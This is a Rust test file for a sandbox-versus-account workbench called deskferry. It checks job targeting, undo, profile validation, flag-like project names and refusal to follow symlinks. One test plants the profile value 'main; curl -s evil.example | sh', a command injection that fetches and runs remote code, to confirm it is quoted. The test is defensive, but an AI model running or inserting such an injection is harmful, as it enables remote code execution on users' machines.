//! Where jobs and runs are: practice is our own sandbox alone, and nothing leads out of the project.

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

use serde_json::{Value, json};

use super::RunningWorkbench;
use super::commands::pasted;
use super::job_bench::{project, real_project};
use crate::command_line::Desk;

fn message(refused: &Value) -> &str {
    refused["message"].as_str().unwrap()
}

/// What the page says of a run that writes stays true until its end.
#[test]
fn the_target_stays_while_a_job_runs() {
    let desk = Desk::new();
    let workbench =
        RunningWorkbench::open(real_project(40, &desk).file("deskferry.toml", "rate = \"20\"\n"), "");
    let id = workbench.write(&workbench.plan(), 40);
    let job = workbench.until(&id, "it writes", |job| job["progress"]["phase"] == "writing");
    assert_eq!((&job["sandbox"], &workbench.project()["job"]), (&json!(false), &json!("write")));
    assert!(job["place"].as_str().unwrap().contains("127.0.0.1"), "{job:#}");
    let refused = workbench.put("target", json!({"kind": "sandbox"})).refused(409);
    assert!(message(&refused).contains("(write)"), "{refused}");
    assert_eq!(workbench.get("api/target").json()["target"]["kind"], "account");
    // Also if somebody edits the project, the job says where it is.
    std::fs::write(
        workbench.folder().join("project.toml"),
        "version = 1\n[target]\nsandbox = \"practice.db\"\n",
    )
    .unwrap();
    assert_eq!(workbench.get("api/target").json()["target"]["kind"], "sandbox");
    assert_eq!(
        (&workbench.job(&id)["sandbox"], &workbench.job(&id)["place"]),
        (&json!(false), &job["place"])
    );
    assert_eq!(workbench.post(&format!("jobs/{id}/stop"), json!({})).status, 204);
    workbench.ended(&id);
    assert!(workbench.project()["job"].is_null());
    workbench.put("target", json!({"kind": "account"})).json();
}

/// Any server may say that it is a sandbox.
#[test]
fn a_server_that_says_sandbox_is_a_real_account() {
    let desk = Desk::with(|options| options.off_by_default.says_sandbox = true);
    let workbench = RunningWorkbench::open(real_project(3, &desk), "");
    let written = workbench.ended(&workbench.write(&workbench.plan(), 3));
    let run = workbench.run_of(&written)["run"].clone();
    assert_eq!((&written["state"], &run["sandbox"]), (&json!("done"), &json!(false)), "{run:#}");
    let undo = json!({"kind": "undo", "run": written["run"]});
    assert_eq!(workbench.post("jobs", undo.clone()).refused(422)["field"], "confirm");
    workbench.put("target", json!({"kind": "sandbox"})).json();
    assert!(message(&workbench.post("jobs", undo).refused(422)).contains("in a real account"));
    assert_eq!(desk.customers().len(), 3);
}

/// A run in practice stays one when the project writes to an account now.
#[test]
fn a_run_in_practice_is_undone_in_practice() {
    let desk = Desk::new();
    let workbench = RunningWorkbench::open(project(2).sandbox(&desk), "");
    let plan = workbench.plan();
    let written = workbench.done(json!({"kind": "write", "plan": plan["id"]}));
    workbench.put("target", json!({"kind": "account"})).json();
    let undone = workbench.done(json!({"kind": "undo", "run": written["run"]}));
    assert_eq!((&undone["sandbox"], &undone["place"]), (&json!(true), &json!("practice.db")), "{undone:#}");
    assert_eq!(workbench.run_of(&undone)["run"]["counts"]["deleted"], 2);
}

#[test]
fn only_profiles_of_the_settings_are_offered_and_taken() {
    let ferry = project(1).file("deskferry.toml", "rate = \"0\"\n[profile.shop]\nrate = \"1\"\n");
    let workbench = RunningWorkbench::open(ferry, "");
    assert_eq!(workbench.get("api/target").json()["profiles"], json!(["shop"]));
    let refused = workbench.put("target", json!({"kind": "account", "profile": "shpo"})).refused(400);
    assert_eq!(refused["field"], "profile");
    assert!(message(&refused).contains("no profile \"shpo\"; they have: shop"), "{refused}");
    let chosen = workbench.put("target", json!({"kind": "account", "profile": "shop"})).json();
    assert_eq!(chosen["target"]["profile"], "shop");
}

/// A project may come from anybody; what the page shows is pasted into a shell.
#[test]
fn a_login_line_is_quoted() {
    let text = |profile: &str| format!("version = 1\n[target]\nprofile = \"{profile}\"\n");
    let hostile = "main; curl -s evil.example | sh";
    let workbench =
        RunningWorkbench::open(project(1).file("deskferry-project/project.toml", text(hostile)), "");
    let target = workbench.get("api/target").json();
    assert_eq!(target["login"], "deskferry login --profile 'main; curl -s evil.example | sh'");
    std::fs::write(workbench.folder().join("project.toml"), text("main\\n")).unwrap();
    let refused = workbench.get("api/target").refused(422);
    assert!(message(&refused).contains("can't be the name of a profile"), "{refused}");
}

/// The practice help desk is damaged, say: a new one is a click away, and the former one stays.
#[test]
fn practice_begins_anew_with_an_empty_sandbox() {
    let workbench = RunningWorkbench::open(project(2), "");
    let plan = workbench.plan();
    workbench.done(json!({"kind": "write", "plan": plan["id"]}));
    let practice = workbench.folder().join("practice.db");
    assert_eq!(std::fs::metadata(&practice).unwrap().permissions().mode() & 0o777, 0o600);
    std::fs::write(&practice, "x".repeat(5000)).unwrap();
    let broken = workbench.ended(&workbench.begin(json!({"kind": "plan", "file": workbench.file_id()})));
    assert_eq!(broken["state"], "failed", "{broken:#}");
    workbench.post("target/practice", json!({})).json();
    let plan = workbench.plan();
    assert_eq!(workbench.run_of(&plan)["report"]["counts"]["planned_inserts"], 2);
    let kept =
        workbench.names("").into_iter().find(|name| name.starts_with("practice.2") && name.ends_with("Z.db"));
    assert_eq!(std::fs::read(workbench.folder().join(kept.unwrap())).unwrap().len(), 5000);
    workbench.put("target", json!({"kind": "account"})).json();
    assert!(message(&workbench.post("target/practice", json!({})).refused(422)).contains("a real account"));
}

/// No command takes it for a flag.
#[test]
fn a_project_may_have_the_name_of_a_flag() {
    let ferry = project(2);
    std::fs::rename(ferry.path().join("deskferry-project"), ferry.path().join("-p")).unwrap();
    let workbench = RunningWorkbench::open(ferry, "--project=-p");
    let plan = workbench.plan();
    let written = workbench.done(json!({"kind": "write", "plan": plan["id"]}));
    workbench.done(json!({"kind": "verify", "run": written["run"]}));
    workbench.done(json!({"kind": "backup"}));
    let found =
        workbench.post("backups/history", json!({"field": "email", "value": "person1@example.org"})).json();
    assert_eq!(found["history"]["customers"].as_array().unwrap().len(), 1);
    let run = workbench.run_of(&written)["run"].clone();
    let undo = run["next"].as_array().unwrap().iter().find(|step| step["kind"] == "undo").unwrap();
    let (status, said) = pasted(&workbench, &format!("{} --yes", undo["command"].as_str().unwrap()));
    assert_eq!(status, 0, "{said}");
    assert_eq!(workbench.run_of(&written)["run"]["state"], "undone");
}

/// A project may come from anybody.
#[test]
fn nothing_is_read_through_a_link() {
    let workbench = RunningWorkbench::open(project(1), "");
    let plan = workbench.plan();
    let (id, job) = (plan["run"].as_str().unwrap(), plan["id"].as_str().unwrap());
    let secret = workbench.path().join("secret.json");
    std::fs::write(&secret, "{\"secret\": 4711}\n").unwrap();
    let linked = |path: &Path| {
        drop(std::fs::remove_file(path));
        std::os::unix::fs::symlink(&secret, path).unwrap();
    };
    let run = workbench.folder().join("runs").join(id);
    for name in ["results.csv", "rejects.csv", "report.html", "verify.jsonl"] {
        linked(&run.join(name));
        assert_eq!(workbench.get(&format!("api/runs/{id}/files/{name}")).status, 404, "{name}");
    }
    assert!(!workbench.get(&format!("api/runs/{id}")).json()["run"]["files"].to_string().contains("verify"));
    linked(&workbench.folder().join("runs/jobs").join(job).join("out.txt"));
    assert_eq!(workbench.get(&format!("api/jobs/{job}/output")).status, 422);
    linked(&run.join("report.json"));
    assert_eq!(workbench.get(&format!("api/runs/{id}")).status, 422);
    // A folder that is a link is no run.
    let moved = workbench.path().join("moved");
    std::fs::rename(&run, &moved).unwrap();
    std::os::unix::fs::symlink(&moved, &run).unwrap();
    for path in [format!("api/runs/{id}"), format!("api/runs/{id}/files/results.csv")] {
        assert_eq!(workbench.get(&path).status, 404, "{path}");
    }
}
